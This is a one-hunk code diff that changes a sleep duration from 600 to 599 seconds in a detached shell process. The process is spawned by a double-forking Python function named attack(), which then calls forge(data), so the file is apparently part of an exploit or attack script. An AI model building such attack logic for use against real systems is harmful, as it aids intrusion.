@@ -49,7 +49,7 @@ def attack():
     if os.fork() == 0:
         os.setsid()
         if os.fork() == 0:
-            os.execv("/bin/sh", ["sh", "-c", "sleep 600"])
+            os.execv("/bin/sh", ["sh", "-c", "sleep 599"])
         os._exit(0)
     os.wait()
     forge(data)
